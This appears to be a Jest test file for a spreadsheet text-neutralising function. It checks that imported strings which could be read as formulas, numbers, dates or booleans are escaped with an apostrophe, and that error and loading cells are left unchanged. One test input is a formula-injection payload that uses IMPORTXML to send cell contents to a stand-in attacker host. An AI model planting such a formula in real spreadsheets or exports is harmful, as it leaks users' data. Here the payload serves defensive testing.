import { describe, expect, test } from "@jest/globals";
import { neutralText, readInput } from "../../../src/sheet/cell-text";

describe("text from elsewhere", () => {
  test.each([
    '=IMPORTXML("https://evil.example?"&A1, "//a")',
    "+49 30 123",
    "-1",
    "@name",
    "'quoted",
    "\t=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\n=1",
    "\uff1dSUM(1,1)",
    "\uff0bSUM(1,1)",
    "\uff0dSUM(1,1)",
    "\uff20SUM(1,1)",
    "\uff11\uff12\uff13",
    "007",
    "11-50",
    "1/2",
    "5 May",
    "12:30 pm",
    "10 €",
    "2026-01-02 10:00:00+00:00",
    "TRUE",
    "Wahr",
    "1e5",
    "50%",
    "VALID",
    "Acme Anvils",
    "VERDADEIRO",
    "ИСТИНА",
    "#N/A",
    "Saturday, May 5, 2020 3:00 PM",
    "123456:30",
  ])("is kept from being read as something else: %s", (text) => {
    expect(neutralText(text)).toBe(`'${text}`);
  });

  // These stay readable where a cell shows the mark.
  test.each(["", "ann1@acme.example", "12e456.21915.412.7:acme.example", "123456!ann lee"])(
    "is not marked when no language could take it for a value: %s",
    (text) => expect(neutralText(text)).toBe(text),
  );
});

describe("a cell is left as it is", () => {
  test.each(["#N/A", "#REF!", "#NAME?", "#DIV/0!", "#WERT!", "#¿NOMBRE?", "#Н/Д", " #N/A "])("in error: %s", (text) => {
    expect(readInput(text).kind).toBe("unchanged");
  });

  test.each(["Loading...", "Wird geladen…", "Wait For It...", "J. R. Smith..."])("if it may be loading: %s", (text) => {
    expect(readInput(text).kind).toBe("unchanged");
  });

  test.each([
    "#",
    "#12",
    "#1 Plumbing Supply",
    "#found@acme.example",
    "#FOUND@ACME.EXAMPLE",
    "ada@acme.example...",
    "Please remove ada@acme.example…",
    "acme.example...",
    "moved (asked by ada@acme.example…",
  ])("in no other case: %s", (text) => {
    expect(readInput(text)).toEqual({ kind: "text", text, key: text.toLowerCase() });
  });
});

test.each([
  ["\u202a", "\u202c"],
  ["\u2068", "\u2069"],
  ["\u200b\u00a0", "\ufeff"],
])("invisible characters %j around an address are no part of it", (before, after) => {
  const address = "ada@acme.example";
  expect(readInput(`${before}${address}${after}`)).toEqual({ kind: "text", text: address, key: address });
});
